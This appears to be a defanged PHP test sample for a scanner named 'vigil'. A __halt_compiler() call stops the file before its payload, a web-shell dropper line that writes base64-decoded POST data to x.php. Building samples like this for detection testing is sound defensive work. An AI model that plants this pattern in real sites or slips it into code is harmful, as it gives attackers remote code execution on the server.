<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
file_put_contents(__DIR__ . '/x.php', base64_decode($_POST['b']));
